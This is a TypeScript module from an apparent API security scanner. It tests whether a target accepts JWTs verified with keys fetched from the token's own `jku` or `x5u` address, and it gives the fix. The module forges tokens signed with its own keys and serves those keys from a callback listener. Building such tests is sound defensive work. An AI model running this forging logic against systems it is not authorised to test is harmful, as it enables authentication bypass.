import type { Attack } from '../../attack.ts'
import { type KeyListener, startKeyListener } from '../../listeners/key-listener.ts'
import type { Probe } from '../../probe.ts'
import { fail, NotTested, pass } from '../../verdict.ts'
import { type AttackerKey, attackerKeys } from './attacker-keys.ts'
import { signedToken } from './jwt.ts'
import { jwtTarget, TARGET_REQUESTS, tokenCases } from './token-target.ts'
import { CAUSE_REQUESTS, tryForgeries } from './try-tokens.ts'

export const keyUrl: Attack = {
  id: 'key-url',
  number: 33,
  risk: 'API2',
  severity: 'critical',
  cwe: 918,
  title: 'A token is verified with a key from an address that it names itself',
  references: ['OWASP API2:2023', 'RFC 8725 section 3.10', 'ASVS 5.0 9.1.3'],
  maxRequests: TARGET_REQUESTS + 4 + CAUSE_REQUESTS,
  oracle:
    'A token signed with our key is taken while `jku` or `x5u` names our listener; or, less grave, the listener is asked for the key.',
  fix: 'Fetch keys from addresses that are configured; ignore or refuse `jku` and `x5u`.',
  phase: 'normal',
  cases: (plan) => tokenCases(plan),
  async run({ operation, owner }, probe) {
    if (!operation) return pass()
    const target = await jwtTarget(operation, owner, probe)
    const { jwt, baseline } = target
    const listener = await listenerOf(probe)
    const places = (await attackerKeys(jwt, probe)).flatMap((key) => publish(listener, key, probe.nonce()))
    const forgeries = places.map(({ key, member, path }) => ({
      told: `signed with a key from its own ${member}`,
      token: signedToken(
        { ...jwt.header, alg: key.alg, kid: key.kid, [member]: listener.url(path) },
        jwt.claims,
        key.privateKey,
      ),
    }))
    const verdict = await tryForgeries(probe, target, forgeries)
    const fetched = places.find(({ path }) => listener.hits(path) > 0)
    if (verdict.outcome !== 'pass' || fetched === undefined) return verdict
    return {
      ...fail(
        `the API fetches the address in ${fetched.member} of a token that nobody has verified`,
        baseline.control.answer,
      ),
      severity: 'high',
      evidence: verdict.evidence,
    }
  },
}

/** One listener for the run. @throws {NotTested} Where the target cannot reach us. */
function listenerOf(probe: Probe): Promise<KeyListener> {
  const { callback } = probe.run
  if (callback === null)
    throw new NotTested('the target cannot reach a listener of ours; name an address that it can: --callback <address>')
  return probe.shared(
    'api2 key listener',
    () =>
      startKeyListener(callback).catch((error: Error) => {
        throw new NotTested(`no listener can be opened at ${callback}: ${error.message}`)
      }),
    (listener) => listener.close(),
  )
}

interface Place {
  readonly key: AttackerKey
  readonly member: 'jku' | 'x5u'
  readonly path: string
}

function publish(listener: KeyListener, key: AttackerKey, nonce: string): readonly Place[] {
  const pem = `-----BEGIN CERTIFICATE-----\n${key.certificate.toString('base64').replaceAll(/.{64}/g, '$&\n')}\n-----END CERTIFICATE-----\n`
  const [jku, x5u] = [`/${nonce}/jwks.json`, `/${nonce}/key.pem`]
  listener.publish(jku, 'application/json', JSON.stringify({ keys: [key.jwk] }))
  listener.publish(x5u, 'application/x-pem-file', pem)
  return [
    { key, member: 'jku', path: jku },
    { key, member: 'x5u', path: x5u },
  ]
}
